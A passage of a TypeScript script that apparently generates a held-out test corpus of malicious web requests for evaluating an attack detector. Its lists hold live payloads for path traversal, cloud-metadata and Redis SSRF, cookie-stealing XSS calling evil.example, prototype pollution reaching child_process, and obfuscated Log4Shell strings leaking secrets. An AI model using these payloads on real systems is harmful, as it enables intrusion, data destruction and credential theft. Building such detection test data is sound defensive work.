  ['../../../../root/.ssh/id_rsa', 'base64'],
  ['../../../../var/lib/postgresql/data/pg_hba.conf', 'urlenc-in-json'],
  ['....\\/....\\/....\\/etc/passwd', 'graphql-variables'],
  ['/..;/..;/..;/WEB-INF/web.xml', 'url-path'],
  ['../../../../etc/passwd', 'unicode-escape'],
  ['../../../../../../etc/hosts', 'header'],
  ['../../../.env', 'download'],
];
for (const [p, t] of LFI) place('path-traversal', t, p);

// SSRF (16)
const SSRF: readonly (readonly [string, string])[] = [
  ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'media-url'],
  ['http://[::ffff:a9fe:a9fe]/latest/meta-data/', 'oembed'],
  [
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'webhook-url',
  ],
  ['gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A', 'webhook-url'],
  ['http://127.0.0.1:2375/containers/json', 'avatar-url'],
  ['http://0x7f000001:8080/actuator/env', 'link-preview'],
  ['http://2130706433/admin', 'nested'],
  ['file:///etc/passwd', 'fhir-attachment-url'],
  ['dict://127.0.0.1:11211/stats', 'media-url'],
  ['http://169.254.169.254.nip.io/latest/user-data', 'oembed'],
  ['http://100.100.100.200/latest/meta-data/ram/security-credentials/', 'json-in-string'],
  ['http://[fd00:ec2::254]/latest/meta-data/', 'graphql-variables'],
  ['https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 'base64'],
  ['http://localhost:9200/_cat/indices?v', 'array'],
  [
    'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    'urlenc-in-json',
  ],
  ['http://127.1:8500/v1/agent/self', 'link-preview'],
];
for (const [p, t] of SSRF) place('ssrf', t, p);

// XSS (30)
const XSS: readonly (readonly [string, string])[] = [
  ['<script>alert(document.domain)</script>', 'review'],
  ['<img src=x onerror=alert(document.cookie)>', 'review-title'],
  [
    '<figure class="wp-block-image size-large"><img src="https://cdn.inkwell.example.com/wp-content/uploads/2026/03/hero.jpg" alt="Spring" onerror="fetch(\'https://evil.example/c?\'+document.cookie)"/></figure>',
    'wp-html',
  ],
  [
    '<iframe src="javascript:alert(1)" width="560" height="315" frameborder="0" allowfullscreen></iframe>',
    'wp-html',
  ],
  [
    '<div class="wp-block-button"><a class="wp-block-button__link" href="javascript:fetch(\'//evil.example/\'+document.cookie)">Start your free trial →</a></div>',
    'wp-html',
  ],
  [
    '<p class="has-background" style="background-color:#fff8e1">Sale ends soon <svg/onload=eval(atob(\'ZmV0Y2goJy8vZXZpbC5leGFtcGxlLycrZG9jdW1lbnQuY29va2llKQ==\'))></p>',
    'wp-html',
  ],
  ["<svg/onload=fetch('//evil.example/'+localStorage.token)>", 'seo-title'],
  ['"><script src=https://evil.example/x.js></script>', 'seo-title'],
  ['javascript:alert(document.domain)', 'richtext-link'],
  ['<details open ontoggle=alert(1)>', 'question'],
  ['[Click for the solution](javascript:alert(document.cookie))', 'answer'],
  ['![diagram](https://i.example.org/x.png"onerror="alert(1))', 'answer'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'comment'],
  ['\\href{javascript:alert(1)}{click here for the proof}', 'latex'],
  ['<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">', 'i18n'],
  ["<body onload=alert('XSS')>", 'invoice-note'],
  ['<input autofocus onfocus=alert(1)>', 'clinical-note'],
  ['<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', 'richtext-json'],
  [
    "<script>fetch('https://evil.example/steal?d='+btoa(document.body.innerHTML))</script>",
    'base64-attachment',
  ],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'unicode-escape'],
  [
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    'form',
  ],
  ["<img src=1 onerror=import('//evil.example/p.js')>", 'graphql-review'],
  ["'-alert(document.domain)-'", 'search-query'],
  ["<script>fetch('https://evil.example/?c='+document.cookie)</script>", 'ndjson'],
  ['<a href="jav&#x09;ascript:alert(1)">see the docs</a>', 'question'],
  ['<svg onload=alert(1)>', 'urlenc-in-json'],
  ['<p style="animation-name:spin" onanimationstart="alert(1)">Spring sale!</p>', 'json-api'],
  ['<img src=x onerror=alert(1)>', 'multipart'],
  ['<svg onload=alert(1)>', 'key'],
  ['"><img src=x onerror=alert(document.cookie)>', 'header'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'json-in-string'],
];
for (const [p, t] of XSS) place('xss', t, p);

// Prototype pollution (11)
addAttack(
  'prototype-pollution',
  'merge-patch',
  'PATCH',
  `/api/v2/patients/${uuid()}`,
  MERGE,
  '{"__proto__":{"isAdmin":true},"preferredName":"Kit"}',
  'sdk',
);
addAttack(
  'prototype-pollution',
  'nested',
  'PUT',
  '/api/v3/me/preferences',
  J,
  json({ theme: 'dark', notifications: { constructor: { prototype: { role: 'admin' } } } }),
  'browser',
);
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  '/api/v3/products?q=shoes&__proto__[isAdmin]=1',
  null,
  '',
  'browser',
);
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  '/api/articles?populate=*&constructor[prototype][isAdmin]=true',
  null,
  '',
  'curl',
);
addAttack(
  'prototype-pollution',
  'json-api',
  'PATCH',
  `/jsonapi/node/article/${uuid()}`,
  JSONAPI,
  `{"data":{"type":"node--article","id":"${uuid()}","attributes":{"title":"Spring","__proto__":{"polluted":"yes"}}}}`,
  'sdk',
  { accept: JSONAPI },
);
addAttack(
  'prototype-pollution',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  `{"query":${json(nth(CMS_GQL, 1).query)},"variables":{"id":"7","data":{"title":"Spring","__proto__":{"role":"admin"}}}}`,
  'browser',
);
addAttack(
  'prototype-pollution',
  'unicode-escape',
  'PUT',
  '/api/v3/me/preferences',
  J,
  '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true},"theme":"light"}',
  'browser',
);
addAttack(
  'prototype-pollution',
  'nested',
  'POST',
  '/api/pages/42/blocks',
  J,
  `{"type":"hero","settings":{"layout":"wide","__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}`,
  'browser',
);
addAttack(
  'prototype-pollution',
  'form',
  'POST',
  '/forms/newsletter',
  FORM,
  `EMAIL=x%40example.com&__proto__%5BAdmin%5D=1&FNAME=Anna`,
  'browser',
);
addAttack(
  'prototype-pollution',
  'ndjson',
  'POST',
  '/api/v3/catalog/import',
  NDJSON,
  `${json({ sku: 'SKU-10001', title: 'Mug' })}\n{"sku":"SKU-10002","title":"Cushion","__proto__":{"price":0,"isAdmin":true}}\n`,
  'sdk',
);
addAttack(
  'prototype-pollution',
  'json-in-string',
  'POST',
  '/api/pages/42/blocks',
  J,
  json({ type: 'faq', settings: '{"collapsed":true,"__proto__":{"isAdmin":true}}' }),
  'browser',
);
addAttack(
  'prototype-pollution',
  'array',
  'PATCH',
  `/api/cart/${hex(16)}`,
  MERGE,
  '{"items":[{"sku":"SKU-10001","quantity":1},{"constructor":{"prototype":{"discount":100}}}]}',
  'browser',
);

// Log4Shell (11)
addAttack('log4shell', 'header', 'GET', '/fhir/R4/metadata', null, '', 'curl', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  'user-agent': '${jndi:ldap://203.0.113.7:1389/Exploit}',
});
addAttack('log4shell', 'header', 'GET', '/api/v1/invoices', null, '', 'sdk', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  'x-forwarded-for': '${jndi:rmi://203.0.113.7/x}',
});
addAttack('log4shell', 'header', 'GET', '/api/v3/products?q=jacket', null, '', 'browser', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  referer: '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}',
});
addAttack('log4shell', 'cookie', 'GET', '/api/v3/cart', null, '', 'browser', {
  cookie: `sid=${hex(24)}; lang=\${jndi:ldap://evil.example/ck}`,
});
const JNDI: readonly (readonly [string, string])[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${jndi:ldap://evil.example/p}', 'patient-name'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/c}', 'clinical-note'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}', 'review'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${jndi:ldap://evil.example/q}', 'search-query'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${jndi:ldap://evil.example/b}', 'base64'],
  [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/g}',
    'graphql-variables',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  ['${jndi:ldap://${hostName}.evil.example/a}', 'login-form'],
];
for (const [p, t] of JNDI) place('log4shell', t, p);

/** Both fourth held-out corpora, as written to disk. */
export const heldout4 = { clean, attacks };

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout4.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout4.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  process.stdout.write(
    `clean-heldout4: ${clean.length} requests, attacks-heldout4: ${attacks.length} requests\n`,
  );
}
